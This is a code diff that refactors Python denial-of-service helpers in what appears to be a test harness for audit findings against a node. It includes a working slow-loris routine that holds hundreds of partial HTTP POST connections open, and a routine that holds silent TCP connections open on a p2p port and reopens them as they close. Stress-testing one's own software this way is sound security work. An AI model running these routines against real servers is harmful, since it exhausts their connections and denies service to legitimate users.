@@ -121,9 +121,10 @@ def ws_stall(url: str, stop: threading.Event, requests: int = 60) -> None:
         sock.close()
 
 
-def slow_loris(url: str, stop: threading.Event, count: int = 300) -> None:
-    """``count`` HTTP connections that send a request line and one header, then nothing (finding 5)."""
-    host, port = url.removeprefix("http://").split(":")
+def _hold_connections(stop: threading.Event, count: int, pause: float,
+                      open_one: Callable[[socket.socket], None]) -> None:
+    """Keep ``count`` connections open until ``stop``; ``open_one`` connects a fresh socket (an ``OSError``
+    means the node refuses more for now).  What the node closes is noticed and reopened every ``pause`` s."""
     socks: list[socket.socket] = []
     try:
         while not stop.is_set():
@@ -131,50 +132,11 @@ def slow_loris(url: str, stop: threading.Event, count: int = 300) -> None:
                 s = socket.socket()
                 s.settimeout(2)
                 try:
-                    s.connect((host, int(port)))
-                    s.sendall(b"POST / HTTP/1.1\r\nHost: x\r\n")
-                    s.setblocking(False)
+                    open_one(s)
                     socks.append(s)
                 except OSError:
                     s.close()
                     break
-            alive = []
-            for s in socks:
-                try:
-                    if s.recv(1) == b"":
-                        s.close()
-                        continue
-                except BlockingIOError:
-                    pass
-                except OSError:
-                    s.close()
-                    continue
-                alive.append(s)
-            socks = alive
-            stop.wait(0.5)
-    finally:
-        for s in socks:
-            s.close()
-
-
-def handshake_hold(host: str, port: int, stop: threading.Event, count: int = 64, sources: int = 16) -> None:
-    """Hold ``count`` silent TCP connections to the p2p port from 127.0.0.2 … (finding 4)."""
-    socks: list[socket.socket] = []
-    n = 0
-    try:
-        while not stop.is_set():
-            while len(socks) < count and not stop.is_set():
-                s = socket.socket()
-                s.settimeout(2)
-                try:
-                    s.bind((f"127.0.0.{2 + n % sources}", 0))
-                    n += 1
-                    s.connect((host, port))
-                    socks.append(s)
-                except OSError:
-                    s.close()
-                    break
-            # the node closes them after its handshake deadline; reopen what it closed
             alive = []
             for s in socks:
                 s.setblocking(False)
@@ -189,10 +151,35 @@ def handshake_hold(host: str, port: int, stop: threading.Event, count: int = 64,
                     continue
                 alive.append(s)
             socks = alive
-            stop.wait(0.2)
+            stop.wait(pause)
     finally:
         for s in socks:
             s.close()
+
+
+def slow_loris(url: str, stop: threading.Event, count: int = 300) -> None:
+    """``count`` HTTP connections that send a request line and one header, then nothing (finding 5)."""
+    host, port = url.removeprefix("http://").split(":")
+
+    def open_one(s: socket.socket) -> None:
+        s.connect((host, int(port)))
+        s.sendall(b"POST / HTTP/1.1\r\nHost: x\r\n")
+
+    _hold_connections(stop, count, 0.5, open_one)
+
+
+def handshake_hold(host: str, port: int, stop: threading.Event, count: int = 64, sources: int = 16) -> None:
+    """Hold ``count`` silent TCP connections to the p2p port from 127.0.0.2 … (finding 4); the node closes
+    them after its handshake deadline, and they are reopened."""
+    n = 0
+
+    def open_one(s: socket.socket) -> None:
+        nonlocal n
+        s.bind((f"127.0.0.{2 + n % sources}", 0))
+        n += 1
+        s.connect((host, port))
+
+    _hold_connections(stop, count, 0.2, open_one)
 
 
 @dataclass
